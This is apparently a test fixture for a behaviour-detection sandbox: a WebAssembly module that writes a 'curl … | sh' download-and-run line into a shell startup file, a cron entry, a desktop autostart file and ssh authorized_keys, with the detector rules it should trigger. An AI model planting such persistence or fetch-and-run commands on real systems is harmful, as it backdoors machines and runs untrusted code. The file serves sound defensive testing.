;; RUN: spoor run %
;; WHAT: Makes itself at home: writes to what shells, cron, systemd, the desktop and sshd read when they
;;   start.
;; EXPECT: rule=persistence/shell rule=persistence/schedule rule=persistence/autostart rule=persistence/login status=exited file=/home/user/.bashrc:created file=/home/user/.ssh/authorized_keys:created
(module
  (import "wasi_snapshot_preview1" "path_open" (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_create_directory" (func $path_create_directory (param i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_write" (func $fd_write (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_close" (func $fd_close (param i32) (result i32)))
  (memory (export "memory") 1)
  (data (i32.const 1024) "home/user/.bashrc")
  (data (i32.const 1056) "etc/cron.d")
  (data (i32.const 1056) "etc/cron.d/updater")
  (data (i32.const 1088) "home/user/.config")
  (data (i32.const 1120) "home/user/.config/autostart")
  (data (i32.const 1120) "home/user/.config/autostart/updater.desktop")
  (data (i32.const 1184) "home/user/.ssh/authorized_keys")
  (data (i32.const 2048) "curl -s http://203.0.113.7/a | sh\n")
  ;; One line to the end of a file that is made if it is not there.
  (func $append (param $path i32) (param $len i32)
    (if (i32.eqz (call $path_open (i32.const 3) (i32.const 1) (local.get $path) (local.get $len) (i32.const 1)
        (i64.const 0x40) (i64.const 0) (i32.const 1) (i32.const 12)))
      (then
        (i32.store (i32.const 0) (i32.const 2048))
        (i32.store (i32.const 4) (i32.const 34))
        (drop (call $fd_write (i32.load (i32.const 12)) (i32.const 0) (i32.const 1) (i32.const 8)))
        (drop (call $fd_close (i32.load (i32.const 12)))))))
  (func (export "_start")
    (call $append (i32.const 1024) (i32.const 17))
    (drop (call $path_create_directory (i32.const 3) (i32.const 1056) (i32.const 10)))
    (call $append (i32.const 1056) (i32.const 18))
    (drop (call $path_create_directory (i32.const 3) (i32.const 1088) (i32.const 17)))
    (drop (call $path_create_directory (i32.const 3) (i32.const 1120) (i32.const 27)))
    (call $append (i32.const 1120) (i32.const 43))
    (call $append (i32.const 1184) (i32.const 30))))
